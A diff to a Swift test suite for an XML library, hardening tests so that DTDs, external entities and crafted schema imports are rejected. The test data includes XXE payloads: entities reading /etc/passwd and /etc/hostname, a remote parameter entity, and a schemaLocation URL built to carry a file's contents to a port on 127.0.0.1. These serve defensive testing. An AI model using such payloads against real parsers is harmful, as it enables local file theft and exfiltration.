@@ -1,5 +1,5 @@
 import Foundation
-import JCMXML
+@testable import JCMXML
 import Testing
 
 struct XMLSecurityTests {
@@ -20,20 +20,19 @@ struct XMLSecurityTests {
         try Self.marker.write(to: secret, atomically: true, encoding: .utf8)
         let xml = Self.documentReferencing(secret)
 
-        let indented = try XMLFormatter.indent(xml, documentName: "xxe.xml")
-        #expect(indented.contains("<company>&e;</company>"))
-        #expect(!indented.contains(Self.marker))
+        let failure = try #require(throws: XMLValidationFailure.self) { try XMLFormatter.indent(xml, documentName: "xxe.xml") }
+        #expect(failure.diagnostics.map(\.code) == [.X1])
+        #expect(failure.diagnostics.first?.location?.line == 2, "reported on the DOCTYPE's line")
 
         let diagnostics = try Fixtures.reportSchema().validate(xml: xml, documentName: "xxe.xml")
-        #expect(!diagnostics.isEmpty)
+        #expect(diagnostics.map(\.code) == [.X1])
+        #expect(diagnostics.first?.message.contains("declares a DTD") == true)
         #expect(!diagnostics.contains { $0.message.contains(Self.marker) })
     }
 
     @Test func etcPasswdEntityIsNotExpanded() throws {
         let xml = Self.documentReferencing(URL(fileURLWithPath: "/etc/passwd"))
-        let indented = try XMLFormatter.indent(xml, documentName: "passwd.xml")
-        #expect(indented.contains("&e;"))
-        #expect(!indented.contains("root:"))
+        #expect(throws: XMLValidationFailure.self) { try XMLFormatter.indent(xml, documentName: "passwd.xml") }
         let diagnostics = try Fixtures.reportSchema().validate(xml: xml, documentName: "passwd.xml")
         #expect(!diagnostics.contains { $0.message.contains("root:") })
     }
@@ -49,5 +48,53 @@ struct XMLSecurityTests {
         let diagnostics = try Fixtures.reportSchema().validate(xml: xml, documentName: "bomb.xml")
         #expect(!diagnostics.isEmpty)
         #expect(diagnostics.allSatisfy { $0.code == .X1 })
+    }
+
+    /// A parameter entity pulled from outside used to leave the document "valid".
+    @Test func parameterEntityDocumentIsRejectedNotValid() throws {
+        let xml = """
+            <?xml version="1.0"?>
+            <!DOCTYPE report [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>
+            <report><company>x</company><city>x</city><emissions>1</emissions></report>
+            """
+        let diagnostics = try Fixtures.reportSchema().validate(xml: xml, documentName: "pe.xml")
+        #expect(diagnostics.map(\.code) == [.X1])
+    }
+
+    /// A schema cannot read a local file into a request: its DTD is refused, and nothing but
+    /// local files is ever loaded, whatever its includes say.
+    @Test func aCraftedSchemaReachesNeitherTheNetworkNorLocalFilesThroughEntities() throws {
+        let withEntity = """
+            <?xml version="1.0"?>
+            <!DOCTYPE xs:schema [<!ENTITY secret SYSTEM "file:///etc/hostname">]>
+            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
+              <xs:import namespace="urn:x" schemaLocation="http://127.0.0.1:9/?&secret;"/>
+              <xs:element name="report" type="xs:string"/>
+            </xs:schema>
+            """
+        let failure = try #require(throws: XMLValidationFailure.self) { try XMLSchema(xsd: withEntity, name: "evil.xsd") }
+        #expect(!failure.diagnostics.isEmpty && failure.diagnostics.allSatisfy { $0.code == .X3 })
+        let dtdOnly = withEntity.replacingOccurrences(of: "?&secret;", with: "")
+        let refused = try #require(throws: XMLValidationFailure.self) { try XMLSchema(xsd: dtdOnly, name: "evil.xsd") }
+        #expect(refused.diagnostics.first?.message.contains("declares a DTD") == true)
+
+        let importing = """
+            <?xml version="1.0"?>
+            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
+              <xs:import namespace="urn:x" schemaLocation="http://127.0.0.1:9/types.xsd"/>
+              <xs:element name="report" type="xs:string"/>
+            </xs:schema>
+            """
+        // The import is not fetched: the schema compiles without it (libxml2 warns and skips) or
+        // fails, but never waits on the network.
+        let started = Date()
+        _ = try? XMLSchema(xsd: importing, name: "import.xsd")
+        #expect(Date().timeIntervalSince(started) < 5)
+    }
+
+    @Test func libxmlAdviceToParseUnsafelyIsReplacedByOurOwnWords() {
+        let replaced = LibXMLError.ownWords("Please substitute entities before validation")
+        #expect(!replaced.contains("substitute"))
+        #expect(LibXMLError.ownWords("Excessive depth in document: 256 use XML_PARSE_HUGE option").contains("deeper or larger"))
     }
 }
